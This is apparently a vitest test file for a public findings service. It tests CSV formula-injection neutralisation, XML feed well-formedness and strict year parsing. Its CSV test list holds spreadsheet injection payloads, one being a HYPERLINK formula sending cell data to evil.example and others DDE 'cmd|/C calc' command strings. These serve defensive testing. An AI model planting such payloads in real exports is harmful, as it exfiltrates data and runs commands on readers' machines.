import fxp from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import { BodyYearParams } from '#shared/api/routes/schemas.ts';
import { csvField, csvLine } from '#shared/read/csv.ts';
import { findingsFeed, xmlChars } from '#shared/read/feeds.ts';
import type { PublicFinding } from '#shared/read/types.ts';

/*
 * Hostile text in exports and feeds (an adversarial review of the public data): body names come from the
 * registry and labels, quotes and titles from report pages, so neither may start a spreadsheet formula or
 * break a feed reader's XML.
 */
describe('CSV export neutralises formulas (OWASP CSV injection)', () => {
  for (const evil of [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    '+1+cmd|/C calc!A0',
    '@SUM(1+1)*cmd|/C calc!A0',
    '-2+3+cmd|/C calc!A0',
    '\t=1+1',
    '\r=1+1',
  ]) {
    it(`a cell starting with ${JSON.stringify(evil[0])} is written as text`, () => {
      const cell = csvField(evil).replace(/^"/, '');
      expect(cell.startsWith("'"), cell).toBe(true);
      expect(cell.slice(1).replace(/""/g, '"').replace(/"$/, '')).toBe(evil);
    });
  }
  it('quotes a field holding a semicolon or TAB, the separators of comma-decimal locales (a;@SUM(A1) stays one cell)', () => {
    expect(csvField('a;@SUM(A1)')).toBe('"a;@SUM(A1)"');
    expect(csvField('a\t=1+1')).toBe('"a\t=1+1"');
  });
  it('leaves numbers and plain signed numbers as numbers, and ordinary text alone', () => {
    expect(csvLine(['360802', -5, '-5', '+3.2', '-1.5%', '吉州区人民政府', 2017])).toBe(
      '360802,-5,-5,+3.2,-1.5%,吉州区人民政府,2017\r\n',
    );
  });
});

describe('feeds parse back whatever the report text holds', () => {
  const finding = (quote: string): PublicFinding =>
    ({
      id: '360802:2017:spam.injection:0',
      bodyId: '360802',
      year: 2017,
      rule: 'spam.injection',
      severity: 'error',
      message: { zh: `页面中有被植入的文字:“${quote}”`, en: 'injected text' },
      evidence: [{ quote, where: 'text' }],
      at: '2026-11-24T00:00:00Z',
      source: 'report',
    }) as unknown as PublicFinding;
  for (const format of ['rss', 'atom'] as const) {
    it(`${format}: control characters (U+000B, U+0008, U+0000) and a lone surrogate give well-formed XML`, () => {
      const xml = findingsFeed([finding('体育365\u000b网投\u0008官网\u0000x\ud800y')], {
        base: 'https://nianbao.example.org',
        scope: '*',
        format,
        names: new Map([['360802', '吉州区人民政府']]),
      });
      expect(fxp.validate(xml)).toBe(true);
      // XML 1.0 §2.2 forbids these even escaped; expat and libxml2 refuse the whole feed.
      // biome-ignore lint/suspicious/noControlCharactersInRegex: the point of the test
      expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
      expect(xml).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
      expect(JSON.stringify(fxp.parse(xml))).toContain('体育365 网投 官网');
    });
  }
  it('keeps TAB, LF, CR and paired surrogates (𠀀)', () => {
    expect(xmlChars('a\tb\nc\rd\u{20000}')).toBe('a\tb\nc\rd\u{20000}');
  });
});

describe('strict years in paths', () => {
  it('refuses 0x7e1, " 2017 ", 2017.0 and 1e3; accepts 2017', () => {
    for (const year of ['0x7e1', ' 2017 ', '2017.0', '1e3', '02017'])
      expect(BodyYearParams.safeParse({ bodyId: '360802', year }).success, year).toBe(false);
    expect(BodyYearParams.parse({ bodyId: '360802', year: '2017' }).year).toBe(2017);
  });
});
